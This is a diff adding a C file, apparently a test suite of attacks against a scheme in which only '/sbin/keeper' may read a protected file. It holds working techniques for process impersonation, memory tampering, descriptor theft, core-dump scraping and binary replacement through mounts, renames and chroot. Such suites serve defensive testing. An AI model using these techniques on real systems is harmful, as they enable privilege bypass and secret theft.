@@ -1,0 +1,467 @@
+/* SPDX-License-Identifier: Apache-2.0
+ *
+ * Ways to be, to lead or to listen to the excepted executable. It alone may read `kept_for`.
+ */
+#include "attack.h"
+#include "keeper.h"
+#include <sys/fanotify.h>
+#include <sys/resource.h>
+
+#define KEEPER "/sbin/keeper"
+#define MINE "kept_for"
+
+void attack_id_plain(void)
+{
+	take_path(MINE);
+}
+
+/* ---- becoming it */
+
+/* The kernel changes the executable of a process only when nothing of the old one is mapped. */
+static void move_to_memory(void)
+{
+	struct {
+		unsigned long start, end;
+		char flags[5];
+	} part[16];
+	char line[512];
+	FILE *maps = fopen("/proc/self/maps", "r");
+	int count = 0;
+
+	while (count < 16 && fgets(line, sizeof(line), maps)) {
+		sscanf(line, "%lx-%lx %4s", &part[count].start, &part[count].end, part[count].flags);
+		count += strstr(line, "/runner") != NULL;
+	}
+	fclose(maps);
+	for (int i = 0; i < count; i++) {
+		size_t length = part[i].end - part[i].start;
+		void *copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+		memcpy(copy, (void *)part[i].start, length);
+		mprotect(copy, length,
+			 (part[i].flags[0] == 'r' ? PROT_READ : 0) | (part[i].flags[1] == 'w' ? PROT_WRITE : 0) |
+			     (part[i].flags[2] == 'x' ? PROT_EXEC : 0));
+		mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)part[i].start);
+	}
+}
+
+static void take_as_keeper(void)
+{
+	char exe[64] = "";
+
+	readlink("/proc/self/exe", exe, sizeof(exe) - 1);
+	if (!strcmp(exe, KEEPER))
+		take_path(MINE);
+}
+
+void attack_id_mm_map(void)
+{
+	unsigned long here = (unsigned long)got;
+	struct prctl_mm_map map = {.start_code = here,
+				   .end_code = here + 1,
+				   .start_data = here,
+				   .end_data = here,
+				   .start_brk = here,
+				   .brk = here,
+				   .start_stack = here,
+				   .arg_start = here,
+				   .arg_end = here,
+				   .env_start = here,
+				   .env_end = here,
+				   .exe_fd = (unsigned int)open(KEEPER, O_RDONLY)};
+
+	own_namespaces();
+	move_to_memory();
+	prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0);
+	take_as_keeper();
+}
+
+void attack_id_mm_exe_file(void)
+{
+	int fd = open(KEEPER, O_RDONLY);
+
+	move_to_memory();
+	prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0);
+	take_as_keeper();
+}
+
+/* ---- leading it */
+
+struct keeper {
+	pid_t pid;
+	int to, from;
+};
+
+static struct keeper start_keeper(int is_traced)
+{
+	struct keeper keeper;
+	int to[2], from[2], status;
+	char ready;
+
+	pipe2(to, O_CLOEXEC);
+	pipe2(from, O_CLOEXEC);
+	keeper = (struct keeper){fork(), to[1], from[0]};
+	if (keeper.pid == 0) {
+		dup2(to[0], STDIN_FILENO);
+		dup2(from[1], STDOUT_FILENO);
+		if (is_traced)
+			ptrace(PTRACE_TRACEME, 0, NULL, NULL);
+		execl(KEEPER, KEEPER, NULL);
+		_exit(1);
+	}
+	close(to[0]);
+	close(from[1]);
+	if (is_traced && waitpid(keeper.pid, &status, 0) == keeper.pid && WIFSTOPPED(status))
+		ptrace(PTRACE_CONT, keeper.pid, NULL, NULL);
+	read(keeper.from, &ready, 1);
+	return keeper;
+}
+
+static void take_from_keeper(struct keeper keeper)
+{
+	write(keeper.to, "", 1);
+	take(keeper.from);
+}
+
+/* Lets a stopped keeper show MINE. */
+static void poke_keeper(struct keeper keeper)
+{
+	long word;
+
+	memcpy(&word, MINE, sizeof(word));
+	waitpid(keeper.pid, NULL, 0);
+	ptrace(PTRACE_POKEDATA, keeper.pid, KEEPER_PAGE + KEEPER_SHOWN, word);
+	ptrace(PTRACE_DETACH, keeper.pid, NULL, NULL);
+	take_from_keeper(keeper);
+}
+
+void attack_id_ptrace(void)
+{
+	struct keeper keeper = start_keeper(0);
+
+	if (ptrace(PTRACE_ATTACH, keeper.pid, NULL, NULL) == 0)
+		poke_keeper(keeper);
+}
+
+void attack_id_traceme(void)
+{
+	struct keeper keeper = start_keeper(1);
+
+	kill(keeper.pid, SIGSTOP);
+	poke_keeper(keeper);
+}
+
+void attack_id_seize(void)
+{
+	struct keeper keeper = start_keeper(0);
+
+	if (ptrace(PTRACE_SEIZE, keeper.pid, NULL, NULL) == 0 && ptrace(PTRACE_INTERRUPT, keeper.pid, NULL, NULL) == 0)
+		poke_keeper(keeper);
+}
+
+void attack_id_vm_write(void)
+{
+	struct iovec mine = {MINE, sizeof(MINE)}, there = {(void *)(KEEPER_PAGE + KEEPER_SHOWN), sizeof(MINE)};
+	struct keeper keeper = start_keeper(0);
+
+	process_vm_writev(keeper.pid, &mine, 1, &there, 1, 0);
+	take_from_keeper(keeper);
+}
+
+static int open_of_keeper(struct keeper keeper, const char *name, int flags)
+{
+	char path[96];
+
+	snprintf(path, sizeof(path), "/proc/%d/%s", keeper.pid, name);
+	return open(path, flags);
+}
+
+void attack_id_mem_write(void)
+{
+	struct keeper keeper = start_keeper(0);
+
+	pwrite(open_of_keeper(keeper, "mem", O_RDWR), MINE, sizeof(MINE), KEEPER_PAGE + KEEPER_SHOWN);
+	take_from_keeper(keeper);
+}
+
+/* ---- taking from it */
+
+void attack_id_vm_read(void)
+{
+	struct iovec here = {got, 64}, there = {(void *)(KEEPER_PAGE + KEEPER_HELD), 64};
+	struct keeper keeper = start_keeper(0);
+
+	process_vm_readv(keeper.pid, &here, 1, &there, 1, 0);
+}
+
+void attack_id_mem_read(void)
+{
+	struct keeper keeper = start_keeper(0);
+
+	pread(open_of_keeper(keeper, "mem", O_RDONLY), got, 64, KEEPER_PAGE + KEEPER_HELD);
+}
+
+void attack_id_pidfd_getfd(void)
+{
+	struct keeper keeper = start_keeper(0);
+	int process = (int)syscall(SYS_pidfd_open, keeper.pid, 0);
+	int fd = (int)syscall(SYS_pidfd_getfd, process, KEEPER_FD, 0);
+
+	pread(fd, got, 64, 0);
+}
+
+void attack_id_proc_fd(void)
+{
+	struct keeper keeper = start_keeper(0);
+	char name[16];
+
+	snprintf(name, sizeof(name), "fd/%d", KEEPER_FD);
+	take(open_of_keeper(keeper, name, O_RDONLY));
+}
+
+void attack_id_map_files(void)
+{
+	struct keeper keeper = start_keeper(0);
+	char name[64];
+
+	snprintf(name, sizeof(name), "map_files/%lx-%lx", KEEPER_MAPPED, KEEPER_MAPPED + 4096);
+	take(open_of_keeper(keeper, name, O_RDONLY));
+}
+
+void attack_id_fanotify(void)
+{
+	struct fanotify_event_metadata event;
+	int watch = fanotify_init(FAN_CLASS_NOTIF, O_RDONLY);
+
+	fanotify_mark(watch, FAN_MARK_ADD, FAN_OPEN, AT_FDCWD, MINE);
+	start_keeper(0);
+	if (read(watch, &event, sizeof(event)) == sizeof(event))
+		take(event.fd);
+}
+
+void attack_id_core(void)
+{
+	struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
+	static char core[1 << 20];
+	struct keeper keeper;
+	const char *at;
+	ssize_t n;
+
+	setrlimit(RLIMIT_CORE, &all);
+	keeper = start_keeper(0);
+	kill(keeper.pid, SIGQUIT);
+	waitpid(keeper.pid, NULL, 0);
+	n = read(open("core", O_RDONLY), core, sizeof(core));
+	at = n < 64 ? NULL : memmem(core, (size_t)n - 64, "the secret", 10);
+	if (at)
+		memcpy(got, at, 64);
+}
+
+/* ---- another program in its place */
+
+void attack_id_write(void)
+{
+	int fd = open(KEEPER, O_WRONLY);
+
+	if (fd >= 0) {
+		close(fd);
+		bring_program(KEEPER);
+		run_it(KEEPER, MINE);
+	}
+}
+
+void attack_id_link_write(void)
+{
+	if (link(KEEPER, "other") == 0) {
+		bring_program("other");
+		run_it(KEEPER, MINE);
+	}
+}
+
+void attack_id_unlink(void)
+{
+	if (unlink(KEEPER) == 0) {
+		bring_program(KEEPER);
+		run_it(KEEPER, MINE);
+	}
+}
+
+void attack_id_link_over(void)
+{
+	bring_program("other");
+	unlink(KEEPER);
+	if (link("other", KEEPER) == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_rename_over(void)
+{
+	bring_program("other");
+	if (rename("other", KEEPER) == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_exchange(void)
+{
+	bring_program("other");
+	if (syscall(SYS_renameat2, AT_FDCWD, "other", AT_FDCWD, KEEPER, RENAME_EXCHANGE) == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_moved_away(void)
+{
+	if (rename(KEEPER, "/sbin/other") == 0) {
+		bring_program(KEEPER);
+		run_it(KEEPER, MINE);
+	}
+}
+
+void attack_id_symlink(void)
+{
+	bring_program("other");
+	if (unlink(KEEPER) == 0 && symlink("/arena/id_symlink/other", KEEPER) == 0)
+		run_it(KEEPER, MINE);
+}
+
+static void bind_over(unsigned long flags)
+{
+	bring_program("other");
+	if (mount("other", KEEPER, NULL, flags, NULL) == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_bind(void)
+{
+	bind_over(MS_BIND);
+}
+
+void attack_id_bind_private(void)
+{
+	bind_over(MS_BIND | MS_PRIVATE);
+}
+
+void attack_id_bind_slave(void)
+{
+	bind_over(MS_BIND | MS_SLAVE | MS_REC);
+}
+
+void attack_id_move_mount(void)
+{
+	int tree;
+
+	bring_program("other");
+	tree = (int)syscall(SYS_open_tree, AT_FDCWD, "other", 1 /* OPEN_TREE_CLONE */);
+	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, KEEPER, 4 /* MOVE_MOUNT_F_EMPTY_PATH */) == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_tmpfs(void)
+{
+	bring_program("other");
+	if (mount("tmpfs", "/sbin", "tmpfs", 0, NULL) == 0) {
+		bring_program(KEEPER);
+		run_it(KEEPER, MINE);
+	}
+}
+
+void attack_id_overlay(void)
+{
+	mkdir("own", 0755);
+	bring_program("own/keeper");
+	if (mount("overlay", "/sbin", "overlay", 0, "lowerdir=own:/sbin") == 0)
+		run_it(KEEPER, MINE);
+}
+
+/* ---- another program under its name, as far as the caller can see */
+
+void attack_id_user_bind(void)
+{
+	own_namespaces();
+	bind_over(MS_BIND);
+}
+
+void attack_id_user_tmpfs(void)
+{
+	own_namespaces();
+	attack_id_tmpfs();
+}
+
+void attack_id_user_overlay(void)
+{
+	own_namespaces();
+	attack_id_overlay();
+}
+
+static void bring_root(void)
+{
+	mkdir("sbin", 0755);
+	bring_program("." KEEPER);
+}
+
+void attack_id_user_chroot(void)
+{
+	bring_root();
+	own_namespaces();
+	if (chroot(".") == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_chroot(void)
+{
+	bring_root();
+	if (chroot(".") == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_pivot(void)
+{
+	bring_root();
+	own_mounts();
+	mount(".", "room", NULL, MS_BIND | MS_REC, NULL);
+	if (chdir("room") == 0 && syscall(SYS_pivot_root, ".", ".") == 0 && chroot(".") == 0)
+		run_it(KEEPER, MINE);
+}
+
+void attack_id_own_mounts(void)
+{
+	own_mounts();
+	bind_over(MS_BIND);
+}
+
+void attack_id_memfd(void)
+{
+	int fd = memfd_create(KEEPER, 0);
+	char path[32];
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	bring_program(path);
+	run_it(path, MINE);
+}
+
+void attack_id_words(void)
+{
+	bring_program("keeper");
+	prctl(PR_SET_NAME, "keeper");
+	execl("keeper", KEEPER, "--show", MINE, NULL);
+}
+
+void attack_id_o_path(void)
+{
+	int fd;
+
+	bring_root();
+	fd = open("." KEEPER, O_PATH);
+	chdir("sbin");
+	syscall(SYS_execveat, fd, "", (char *[]){KEEPER, "--show", "../" MINE, NULL}, environ, AT_EMPTY_PATH);
+}
+
+void attack_id_script(void)
+{
+	int fd;
+
+	bring_program("other");
+	fd = open("keeper", O_WRONLY | O_CREAT, 0755);
+	write(fd, "#!other --show\n", 15);
+	close(fd);
+	execl("keeper", KEEPER, MINE, NULL);
+}
